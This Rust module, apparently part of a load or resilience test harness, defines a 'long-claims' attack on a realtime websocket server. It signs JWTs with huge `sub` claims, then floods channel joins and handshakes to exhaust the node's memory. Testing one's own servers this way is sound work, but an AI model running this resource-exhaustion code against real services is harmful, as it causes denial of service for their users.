//! Tokens with a long `sub`, which a node keeps: of handshakes, and of channels that have a token each.

use std::sync::OnceLock;
use std::time::Duration;

use serde_json::json;

use super::{Attack, repeat};
use crate::target::Target;

/// As many as a client may have channels.
const TOKENS: usize = 100;

/// A head may have 32 KiB, with the token in Base64.
const HANDSHAKE_BYTES: usize = 23_000;

const CHANNEL_BYTES: usize = 45_000;

pub const ATTACK: Attack = Attack {
    name: "long-claims",
    about: "20 clients join 100 rooms with a token of 60 kB for each, 1,000 connect with one of 31 kB",
    start: |target| {
        repeat(target, 20, |target, number| {
            static OF_CHANNELS: OnceLock<Vec<String>> = OnceLock::new();
            let tokens = OF_CHANNELS.get_or_init(|| tokens(target, CHANNEL_BYTES));
            let mut socket = target.open(number)?;
            for (room, token) in tokens.iter().enumerate() {
                let payload = json!({"config": {}, "access_token": token});
                let reference = room.to_string();
                socket.send(&json!([
                    reference,
                    reference,
                    format!("realtime:claims {room}"),
                    "phx_join",
                    payload
                ]))?;
            }
            socket.discard_for(Duration::from_secs(10))?;
            Ok(())
        })?;
        repeat(target, 4, |target, number| {
            static OF_HANDSHAKES: OnceLock<Vec<String>> = OnceLock::new();
            let tokens = OF_HANDSHAKES.get_or_init(|| tokens(target, HANDSHAKE_BYTES));
            let mut sockets = Vec::new();
            for count in 0..250 {
                let path = format!("/socket/websocket?vsn=2.0.0&apikey={}", tokens[count % TOKENS]);
                // Those that are accepted before one is refused are kept.
                let Ok(socket) = target.dial(number * 250 + count)?.upgraded(&path) else { break };
                sockets.push(socket);
            }
            std::thread::sleep(Duration::from_secs(10));
            Ok(())
        })
    },
};

/// Tokens that differ.
fn tokens(target: &Target, bytes: usize) -> Vec<String> {
    let (issuer, subject) = (target.issuer(), "s".repeat(bytes));
    let sign = |number| {
        issuer.sign(&json!({"role": "authenticated", "sub": format!("{number} {subject}"), "exp": u32::MAX}))
    };
    (0..TOKENS).map(sign).collect()
}
